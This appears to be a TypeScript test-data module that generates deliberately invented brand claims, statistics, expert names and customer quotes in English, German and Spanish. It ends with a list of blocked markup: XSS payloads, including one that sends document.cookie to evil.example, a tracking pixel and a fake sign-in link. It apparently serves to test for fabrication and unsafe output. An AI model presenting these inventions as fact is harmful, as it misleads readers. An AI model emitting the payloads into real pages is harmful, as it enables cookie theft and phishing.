/** Made-up claims, numbers, names and quotes, in the languages of the brain; none of them stands in any source. */
import type { Seeded } from "../seeded.ts";

interface Inventions {
  /** About `{brand}`, and untrue for all anybody knows. */
  claims: readonly string[];
  /** With `{number}`. */
  numbers: readonly string[];
  spelledNumbers: readonly string[];
  /** With `{name}`. */
  names: readonly string[];
  /** With `{quote}`, marks included. */
  quotes: readonly string[];
  quoted: readonly string[];
  /** With `{word}`. */
  banned: readonly string[];
}

const people = [
  "Margaret Ollerton",
  "Dr. Kwame Osterhagen",
  "Ilse Brandtner",
  "Tomasz Wieliczko",
  "Renata Villaseñor",
  "Professor Anneke Dijkgraaf",
];
const companies = [
  "Northwick Labs",
  "Brightwater Instruments",
  "Kelvora Systems",
  "Ostrander & Vale",
];
const places = ["Tromsø", "Valparaíso", "Ljubljana", "Winnipeg", "Antananarivo"];

export function inventedName(choice: Seeded, given: string): string {
  const names = [...people, ...companies, ...places].filter((name) => !given.includes(name));
  return choice.pick(names);
}

/** Digits, percent, money, years and numbers in words; never one that stands in the prompt. */
export function inventedNumber(choice: Seeded, given: string, code: string): string {
  const words = inventionsIn(code).spelledNumbers.filter((number) => !given.includes(number));
  if (words.length > 0 && choice.next() < 0.2) return choice.pick(words);
  for (let attempt = 0; attempt < 50; attempt += 1) {
    const base = 11 + Math.floor(choice.next() * 8000);
    const number = choice.pick([
      `${base}`,
      `${(base % 97) + 3} %`,
      `${base % 900}.${(base % 9) + 1}`,
      `$${base}`,
      `${1900 + (base % 120)}`,
    ]);
    if (!given.includes(number.replace(/[^\d.]/gu, ""))) return number;
  }
  return "48,731";
}

const english: Inventions = {
  claims: [
    "{brand} won the national award for customer service.",
    "{brand} replaces every faulty part free of charge for life.",
    "{brand} was founded by a pair of retired engineers.",
    "{brand} ships every order in packaging made from seaweed.",
  ],
  numbers: [
    "A survey found that {number} of all owners would buy it again.",
    "The average household saves about {number} in the course of a year.",
    "Tests showed a difference of {number} between the best and the worst.",
  ],
  spelledNumbers: ["seventy-three percent", "four hundred and twelve", "nineteen thousand"],
  names: [
    "This view is shared by {name}, who has worked on the matter for years.",
    "A well-known study by {name} came to the same conclusion.",
    "The method was developed by {name} and has spread ever since.",
    "{name} made the idea popular.",
  ],
  quotes: [
    "A customer put it like this: {quote}.",
    "In the words of a reader: {quote}.",
    "The support team answered: {quote}.",
  ],
  quoted: [
    "nothing else in my kitchen has ever made me this happy before",
    "you will never want to go back to the old way after this",
    "honestly, the whole street has been asking where to get it",
  ],
  banned: [
    "Some would simply call it {word} and leave it at that.",
    "The word that fits best here is probably {word}.",
  ],
};

const german: Inventions = {
  claims: [
    "{brand} hat den nationalen Preis für Kundendienst gewonnen.",
    "{brand} ersetzt jedes fehlerhafte Teil ein Leben lang kostenlos.",
    "{brand} wurde von pensionierten Ingenieuren gegründet.",
  ],
  numbers: [
    "Laut einer Umfrage würden {number} aller Besitzer wieder zugreifen.",
    "Ein durchschnittlicher Haushalt spart im Jahr etwa {number}.",
    "Tests zeigten einen Unterschied von {number} zwischen den Besten und den Schlechtesten.",
  ],
  spelledNumbers: ["dreiundsiebzig Prozent", "vierhundertzwölf", "neunzehntausend"],
  names: [
    "Diese Ansicht teilt auch {name} nach jahrelanger Arbeit an der Sache.",
    "Eine bekannte Studie von {name} kam zum selben Schluss.",
    "Entwickelt wurde das Verfahren von {name}.",
    "{name} hat die Idee bekannt gemacht.",
  ],
  quotes: ["Eine Kundin sagte es so: {quote}.", "Ein Leser schrieb dazu: {quote}."],
  quoted: [
    "nichts in meiner Küche hat mich je so glücklich gemacht",
    "danach will man nie wieder zurück zur alten Art",
  ],
  banned: ["Manche würden es einfach {word} nennen.", "Das passende Wort ist hier wohl {word}."],
};

const spanish: Inventions = {
  claims: [
    "{brand} ganó el premio nacional de atención al cliente.",
    "{brand} sustituye gratis y de por vida cada pieza defectuosa.",
    "{brand} nació gracias a unos ingenieros jubilados.",
  ],
  numbers: [
    "Según una encuesta, {number} de los propietarios volverían a comprarlo.",
    "Un hogar medio ahorra unos {number} a lo largo del año.",
    "Las pruebas mostraron una diferencia de {number} entre el mejor y el peor.",
  ],
  spelledNumbers: ["setenta y tres por ciento", "cuatrocientos doce", "diecinueve mil"],
  names: [
    "Esta opinión la comparte {name} tras años de trabajo en el asunto.",
    "Un conocido estudio de {name} llegó a la misma conclusión.",
    "El método fue desarrollado por {name} y desde entonces se ha extendido.",
    "{name} dio a conocer la idea.",
  ],
  quotes: ["Una clienta lo dijo así: {quote}.", "En palabras de un lector: {quote}."],
  quoted: [
    "nada en mi cocina me había hecho nunca tan feliz como esto",
    "después de probarlo ya nadie quiere volver a lo de antes",
  ],
  banned: ["Hay quien lo llamaría sencillamente {word}.", "La palabra que encaja aquí es {word}."],
};

export function inventionsIn(code: string): Inventions {
  if (code === "de") return german;
  return code === "es" ? spanish : english;
}

/** What must never reach a reader's browser or mail. */
export const markups: readonly string[] = [
  "<script>alert(document.cookie)</script>",
  '<img src=x onerror="fetch(`https://evil.example/${document.cookie}`)">',
  "![chart](https://evil.example/pixel.png?user=1)",
  "[the full guide](javascript:alert(1))",
  '<a href="https://evil.example/login">Sign in again to read on</a>',
  "<svg onload=alert(1)></svg>",
  '<iframe src="https://evil.example"></iframe>',
];
